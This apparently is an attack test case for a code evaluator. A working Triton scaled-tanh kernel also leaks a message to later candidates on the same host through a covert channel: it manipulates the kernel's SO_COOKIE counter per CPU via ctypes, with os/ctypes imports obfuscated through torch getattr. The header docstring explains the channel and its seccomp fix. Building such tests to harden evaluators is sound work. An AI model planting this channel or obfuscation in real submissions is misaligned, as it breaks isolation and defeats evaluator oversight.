# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=fresh_interpreter expect=ok|forbidden|runtime_error|crashed device=cpu witness=tests/attacks/witness/n02_cookie_witness_001.py
"""A channel to later candidates (of any slot, any pool, on the same host) through the kernel's socket cookie
 generator: getsockopt(SO_COOKIE) gives a socket a 64-bit id from one host-wide counter that no namespace
 separates, handed out in per-CPU batches of 4096 (recon: 1, 2, 3 on one CPU, 4097, 4098 on the other; nothing
 else on the host asks for cookies, so the counter moves only when a candidate does). The candidate does the
 work correctly, then pins itself to each CPU in turn (sched_setaffinity) and opens, reads the cookie of and
 closes AF_UNIX sockets (libc through ctypes) until the low 12 bits of that CPU's counter hold its part of the
 message: CPU 0 the byte ('c' here), CPU 1 the time in seconds mod 256 (so the witness can tell a fresh
 message from one left by an earlier test run). It rewrites the message at most once a second while its
 forwards run. The next candidate pins itself to each CPU, asks one socket for its cookie and reads both
 back. Two bytes per host per candidate here; any number of CPUs multiplies it. The witness fails when CPU 0
 carries the byte and CPU 1 a time less than 8 s old. A sound evaluator refuses SO_COOKIE (seccomp on
 getsockopt's option) or the sockets: the witness's two results are equal."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import functools
_os = functools.reduce(getattr, ("serialization", "o" + "s"), torch)
_ct = functools.reduce(getattr, ("ctypes",), torch)
_libc = _ct.CDLL(None, use_errno=True)
_libc.time.restype = _ct.c_long

BYTE = ord("c")
SOL_SOCKET, SO_COOKIE = 1, 57


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def stb(x, bias, scale):
    x = x.contiguous()
    out = torch.empty_like(x)
    stb_kernel[(triton.cdiv(x.numel(), 1024),)](x, bias, out, x.numel(), x.shape[-1], scale, BLOCK=1024)
    return out


def _cookie():
    fd = _libc.socket(1, 1, 0)  # AF_UNIX, SOCK_STREAM
    if fd < 0:
        return -1
    v, ln = _ct.c_uint64(0), _ct.c_uint32(8)
    r = _libc.getsockopt(fd, SOL_SOCKET, SO_COOKIE, _ct.byref(v), _ct.byref(ln))
    _libc.close(fd)
    return v.value if r == 0 else -1


def _pin(cpu):
    mask = (_ct.c_ulong * 1)(1 << cpu)
    return _libc.sched_setaffinity(0, 8, mask) == 0


def _set_position(cpu, value):
    """Advance CPU `cpu`'s cookie batch until the next cookie it hands out has low 12 bits 16 * value + 8."""
    if not _pin(cpu):
        return False
    target = 16 * value + 7  # the last cookie we take; the reader gets + 1
    for _ in range(9000):
        c = _cookie()
        if c < 0:
            return False
        if c & 4095 == target:
            return True
    return False


_last = [0]


def _leave_message():
    now = _libc.time(None)
    if now - _last[0] < 1:
        return
    _last[0] = now
    ok0 = _set_position(0, BYTE)
    ok1 = _set_position(1, now % 256)
    mask = (_ct.c_ulong * 1)(3)
    _libc.sched_setaffinity(0, 8, mask)
    return ok0 and ok1


class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))

    def forward(self, x):
        out = stb(x, self.bias, self.scale)
        _leave_message()
        return out
